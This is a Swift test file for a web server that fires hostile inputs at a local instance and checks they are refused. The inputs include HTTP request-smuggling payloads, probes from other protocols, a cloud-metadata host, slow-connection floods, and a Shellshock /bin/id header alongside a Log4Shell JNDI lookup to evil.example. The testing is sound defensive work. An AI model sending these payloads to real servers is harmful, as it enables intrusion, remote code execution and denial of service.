import ForgeCore
import Foundation
import NIOCore
import NIOPosix
import Testing

@testable import ForgeWeb

/// What scanners, other protocols' clients and smugglers send. Nothing of it may get a second answer, hang or harm others.
@Suite("Scanners", .serialized, .timeLimit(.minutes(5)))
struct ScannerTests {
    private static let impatient = {
        var configuration = WebConfiguration(port: 0)
        configuration.times = ConnectionTimes(
            head: .seconds(2), body: .seconds(2), reading: .seconds(2), lingering: .seconds(1))
        return configuration
    }()

    private static let list = "GET /api/v1/experiments HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n"

    /// Sends bytes, and checks that the server still answers others.
    private func exchange(_ messages: [[UInt8]]) async throws -> [RawConnection.Reply] {
        try await WebFixture().serve(Self.impatient) { server in
            let connection = RawConnection(port: server.port)
            let replies = try await withThrowingTaskGroup(of: (Int, RawConnection.Reply).self) { group in
                for (index, bytes) in messages.enumerated() {
                    group.addTask { (index, try await connection.send(bytes: bytes)) }
                }
                var replies = [Int: RawConnection.Reply]()
                for try await (index, reply) in group { replies[index] = reply }
                return replies
            }
            #expect(try await connection.request("GET", "/api/v1/experiments").status == 200)
            return messages.indices.compactMap { replies[$0] }
        }
    }

    private func answers(in text: String) -> Int { text.components(separatedBy: "HTTP/1.1 ").count - 1 }

    private static let post = "POST /api/v1/experiments HTTP/1.1\r\nHost: 127.0.0.1\r\n"

    /// Each would be one request to one reader and two to another.
    private static let smuggling: [(String, String)] = [
        ("a length and chunks", "\(post)Content-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n\(list)"),
        ("chunks and a length", "\(post)Transfer-Encoding: chunked\r\nContent-Length: 6\r\n\r\n0\r\n\r\n\(list)"),
        ("two lengths", "\(post)Content-Length: 0\r\nContent-Length: 60\r\n\r\n\(list)"),
        ("a list of lengths", "\(post)Content-Length: 0, 60\r\n\r\n\(list)"),
        ("a signed length", "\(post)Content-Length: +0\r\n\r\n\(list)"),
        ("a length in hex", "\(post)Content-Length: 0x0\r\n\r\n\(list)"),
        ("a length beyond all numbers", "\(post)Content-Length: 99999999999999999999999\r\n\r\n\(list)"),
        ("a space before the colon", "\(post)Content-Length : 0\r\n\r\n\(list)"),
        ("a coding that is not chunked", "\(post)Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n\(list)"),
        ("chunked not last", "\(post)Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n\(list)"),
        ("a coding with a space before the colon", "\(post)Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n\(list)"),
        ("a folded coding", "\(post)Transfer-Encoding:\r\n chunked\r\n\r\n0\r\n\r\n\(list)"),
        ("a coding of HTTP/1.0", "POST / HTTP/1.0\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n\(list)"),
        ("a header with a bare CR", "\(post)X: a\rContent-Length: 0\r\n\r\n\(list)"),
        ("a header with NUL", "\(post)X: a\u{0}b\r\nContent-Length: 0\r\n\r\n\(list)"),
        ("a chunk size with a sign", "\(post)Transfer-Encoding: chunked\r\n\r\n-1\r\n\r\n\(list)"),
        ("a chunk size with 0x", "\(post)Transfer-Encoding: chunked\r\n\r\n0x0\r\n\r\n\(list)"),
        ("a chunk size beyond all numbers", "\(post)Transfer-Encoding: chunked\r\n\r\nfffffffffffffffff\r\n\(list)"),
        ("a chunk without its end", "\(post)Transfer-Encoding: chunked\r\n\r\n1\r\nab\r\n0\r\n\r\n\(list)"),
        (
            "a chunk line that does not end",
            "\(post)Transfer-Encoding: chunked\r\n\r\n1;\(String(repeating: "x", count: 70_000))"
        ),
        (
            "two hosts",
            "GET /api/v1/experiments HTTP/1.1\r\nHost: 127.0.0.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n"
        ),
        ("no host", "GET /api/v1/experiments HTTP/1.1\r\nConnection: close\r\n\r\n"),
        (
            "a host in the address",
            "GET http://evil.example/ HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n"
        ),
    ]

    @Test
    func `What two readers would read differently gets at most one answer, and a refusal`() async throws {
        let replies = try await exchange(Self.smuggling.map { Array($0.1.utf8) })
        for (sent, reply) in zip(Self.smuggling, replies) {
            #expect(answers(in: reply.text) <= 1, "\(sent.0): \(reply.text.prefix(300))")
            #expect(
                reply.status == 0 || (400..<500).contains(reply.status) || reply.status == 501,
                "\(sent.0): \(reply.text.prefix(200))")
            #expect(reply.time < .seconds(10), "\(sent.0)")
        }
    }

    /// The beginning of a TLS handshake with the name of a server.
    private static let clientHello: [UInt8] =
        [0x16, 0x03, 0x01, 0x00, 0xC8, 0x01, 0x00, 0x00, 0xC4, 0x03, 0x03] + (0..<32).map { UInt8($0 * 7 & 0xFF) }
        + [0x20] + (0..<32).map { UInt8($0) } + [0x00, 0x04, 0x13, 0x01, 0x13, 0x02, 0x01, 0x00]
        + Array(repeating: 0x0D, count: 100)

    private static let protocols: [(String, [UInt8])] = [
        ("TLS", clientHello),
        ("SSH", Array("SSH-2.0-OpenSSH_9.6\r\n".utf8)),
        ("HTTP/2", Array("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".utf8) + [0, 0, 0, 4, 0, 0, 0, 0, 0]),
        ("Redis", Array("*1\r\n$4\r\nPING\r\n".utf8)),
        ("SMTP", Array("EHLO scanner\r\nQUIT\r\n".utf8)),
        ("Memcached", Array("stats\r\n".utf8)),
        ("RTSP", Array("OPTIONS / RTSP/1.0\r\n\r\n".utf8)),
        ("SIP", Array("OPTIONS sip:nm SIP/2.0\r\nVia: SIP/2.0/TCP nm\r\n\r\n".utf8)),
        ("PostgreSQL", [0, 0, 0, 8, 4, 210, 22, 47]),
        ("MySQL", [0x20, 0, 0, 1, 0x85, 0xA6, 0x3F, 0x20]),
        ("RDP", [3, 0, 0, 0x13, 0x0E, 0xE0, 0, 0, 0, 0, 0, 1, 0, 8, 0, 3, 0, 0, 0]),
        ("SMB", [0, 0, 0, 0x45, 0xFF, 0x53, 0x4D, 0x42, 0x72]),
        ("SOCKS 5", [5, 1, 0]), ("NUL", Array(repeating: 0, count: 4096)),
        ("0xFF", Array(repeating: 0xFF, count: 4096)),
        ("newlines", Array(repeating: 0x0A, count: 100_000)),
    ]

    @Test
    func `Clients of other protocols are turned away`() async throws {
        let replies = try await exchange(Self.protocols.map(\.1))
        for (sent, reply) in zip(Self.protocols, replies) {
            #expect(answers(in: reply.text) <= 1, "\(sent.0)")
            #expect(reply.status == 0 || (400..<600).contains(reply.status), "\(sent.0): \(reply.text.prefix(100))")
            #expect(reply.time < .seconds(10), "\(sent.0)")
        }
    }

    private static let requests: [(String, String)] = [
        ("CONNECT", "CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\n"),
        ("OPTIONS *", "OPTIONS * HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n"),
        ("TRACE", "TRACE / HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Secret: shown\r\nConnection: close\r\n\r\n"),
        ("a method of ours alone", "FROB / HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n"),
        ("a method without end", "\(String(repeating: "A", count: 50_000)) / HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n"),
        (
            "a path without end",
            "GET /\(String(repeating: "a", count: 50_000)) HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n"
        ),
        ("many headers", "GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n\((0..<5000).map { "X-\($0): y\r\n" }.joined())\r\n"),
        ("a header without end", "GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nX: \(String(repeating: "a", count: 200_000))"),
        (
            "a cookie without end",
            "GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nCookie: \(String(repeating: "a=b;", count: 20_000))\r\n\r\n"
        ),
        ("bad percent signs", "GET /experiments/%zz%f HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n"),
        (
            "UTF-8 that is none",
            "GET /experiments/%ff%fe?text=%c0%80 HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n"
        ),
        (
            "a range of a page",
            "GET /assets/forge.css HTTP/1.1\r\nHost: 127.0.0.1\r\nRange: bytes=0-,\(String(repeating: "0-,", count: 1000))\r\nConnection: close\r\n\r\n"
        ),
        (
            "another host of the machine's network",
            "GET / HTTP/1.1\r\nHost: 169.254.169.254\r\nConnection: close\r\n\r\n"
        ),
        (
            "a shell in headers",
            "GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nUser-Agent: () { :; }; /bin/id\r\nReferer: ${jndi:ldap://evil.example/a}\r\nConnection: close\r\n\r\n"
        ),
    ]

    @Test
    func `Odd requests are answered or refused, and nothing of them comes back`() async throws {
        let replies = try await exchange(Self.requests.map { Array($0.1.utf8) })
        for (sent, reply) in zip(Self.requests, replies) {
            #expect(
                answers(in: reply.text) <= 1 && reply.status < 500 || reply.status == 501,
                "\(sent.0): \(reply.text.prefix(200))")
            #expect(
                !reply.text.contains("X-Secret") && !reply.text.contains("uid=") && !reply.text.contains("jndi"),
                "\(sent.0)")
            #expect(reply.time < .seconds(10), "\(sent.0)")
        }
    }

    @Test
    func `Nobody is switched to another protocol`() async throws {
        let upgrades = ["websocket", "h2c", "TLS/1.0"].map {
            "GET /api/v1/experiments HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: Upgrade, close\r\nUpgrade: \($0)\r\n"
                + "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\nHTTP2-Settings: AAMAAABkAAQAoAAA\r\n\r\n"
        }
        for reply in try await exchange(upgrades.map { Array($0.utf8) }) {
            #expect(reply.status != 101 && answers(in: reply.text) <= 1)
        }
    }

    @Test
    func `Two hundred requests in one go are answered in their order, and none after a bad one`() async throws {
        let good = (0..<200).map { "GET /api/v1/experiments?limit=\($0 % 5 + 1) HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n" }
            .joined()
        let last = "GET /nothing HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n"
        let all = try await exchange([Array((good + last).utf8), Array("\(Self.list)BAD\r\n\r\n\(Self.list)".utf8)])
        #expect(answers(in: all[0].text) == 201)
        #expect(all[0].text.components(separatedBy: "HTTP/1.1 200 OK").count == 201)
        #expect(all[0].text.range(of: "404 Not Found", options: .backwards) != nil)
        #expect(answers(in: all[1].text) <= 2)
    }

    @Test
    func `Hundreds of half requests keep nobody out for longer than they may take`() async throws {
        var configuration = Self.impatient
        configuration.mostConnections = 100
        try await WebFixture().serve(configuration) { server in
            let connection = RawConnection(port: server.port)
            try await withThrowingTaskGroup(of: RawConnection.Reply?.self) { group in
                for number in 0..<300 {
                    group.addTask {
                        // Some say nothing at all, some begin a head, some a body.
                        let pieces = [[], ["GET / HTTP/1.1\r\nHost: "], ["\(Self.post)Content-Length: 100\r\n\r\nx"]][
                            number % 3]
                        return try? await connection.send(pieces)
                    }
                }
                try await Task.sleep(for: .milliseconds(300))
                let start = ContinuousClock.now
                let good = try await connection.request("GET", "/api/v1/experiments")
                #expect(good.status == 200)
                #expect(ContinuousClock.now - start < .seconds(25))
                var closed = 0
                for try await reply in group where reply != nil { closed += 1 }
                #expect(closed >= 200)
            }
            #expect(try await connection.request("GET", "/api/v1/experiments").status == 200)
        }
    }

    @Test
    func `Two thousand connections one after the other leave nothing behind`() async throws {
        try await WebFixture().serve(Self.impatient) { server in
            let connection = RawConnection(port: server.port)
            let before = Self.openFiles
            for _ in 0..<20 {
                try await withThrowingTaskGroup(of: Void.self) { group in
                    for _ in 0..<100 {
                        group.addTask {
                            let channel = try await connection.open("/api/v1/experiments")
                            // Cut off before the answer is read.
                            try await channel.close()
                        }
                    }
                    try await group.waitForAll()
                }
            }
            #expect(try await connection.request("GET", "/api/v1/experiments").status == 200)
            try await Task.sleep(for: .seconds(3))
            #expect(Self.openFiles < before + 50)
        }
    }

    private static var openFiles: Int {
        (try? FileManager.default.contentsOfDirectory(atPath: "/proc/self/fd").count) ?? 0
    }
}
